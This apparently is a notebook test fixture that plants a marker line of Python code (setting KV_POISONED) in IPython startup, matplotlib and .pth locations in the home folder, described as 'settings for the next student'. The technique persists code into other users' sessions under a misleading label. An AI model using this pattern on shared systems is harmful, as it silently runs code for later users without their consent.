# %% [markdown]
# Leaves settings for the next student in the home folder: matplotlib, IPython, usercustomize.

# %%
import site
from pathlib import Path

home = Path.home()
for name in (
    f".config/matplotlib/{TOLD['mark']}",
    f".ipython/profile_default/startup/{TOLD['mark']}.py",
    f".local/{TOLD['mark']}.pth",
    f"{TOLD['mark']}",
):
    try:
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text("import os; os.environ['KV_POISONED'] = '1'")
    except OSError:
        pass
